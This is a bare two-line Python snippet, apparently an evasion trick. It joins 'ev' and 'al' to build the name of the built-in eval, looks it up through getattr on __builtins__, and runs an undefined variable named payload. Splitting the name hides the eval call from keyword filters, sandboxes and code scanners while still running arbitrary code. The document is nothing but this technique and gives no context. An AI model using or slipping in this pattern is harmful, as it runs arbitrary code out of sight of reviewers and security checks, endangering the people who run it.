f = '{}{}'.format('ev', 'al')
getattr(__builtins__, f)(payload)
